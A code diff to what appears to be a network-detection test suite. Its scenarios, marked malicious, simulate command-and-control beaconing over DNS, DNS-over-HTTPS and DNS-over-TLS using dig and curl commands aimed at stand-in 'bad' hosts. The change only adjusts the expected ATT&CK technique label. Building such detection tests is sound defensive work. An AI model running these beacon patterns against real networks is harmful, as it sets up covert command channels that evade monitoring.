@@ -62,7 +62,7 @@ def tcp_beacon(net: Network) -> None:
     net.c1.every(3, 0.2, 20, lambda n, token: f"{DIG} +tcp @{at.BAD_NS} TXT {token}.{at.ZONE}")
 
 
-@malicious("dns-doh-beacon", "T1071.004 T1573.002 T1572", tools="curl unbound", talks=f"c1>{at.OK}.38:443/tcp c1>{at.BAD}:443/tcp", expects=["T1573.002"], seconds=75)
+@malicious("dns-doh-beacon", "T1071.004 T1573.002 T1572", tools="curl unbound", talks=f"c1>{at.OK}.38:443/tcp c1>{at.BAD}:443/tcp", expects=["T1573"], seconds=75)
 def doh_beacon(net: Network) -> None:
     """names resolved over HTTPS at an outside resolver (unbound), then an HTTPS beacon"""
     secure_resolver(net)
@@ -71,7 +71,7 @@ def doh_beacon(net: Network) -> None:
     net.c1.every(3, 0.2, 18, lambda n, token: f"{CURL} {doh} https://{at.BAD_NAME}/a/{token}")
 
 
-@malicious("dns-dot-tunnel", "T1071.004 T1573.002", tools="knot-dnsutils unbound", talks=f"c1>{at.OK}.38:853/tcp", expects=["T1573.002"], seconds=75)
+@malicious("dns-dot-tunnel", "T1071.004 T1573.002", tools="knot-dnsutils unbound", talks=f"c1>{at.OK}.38:853/tcp", expects=["T1573"], seconds=75)
 def dot_beacon(net: Network) -> None:
     """TXT polls over TLS (853) to an outside resolver"""
     secure_resolver(net)
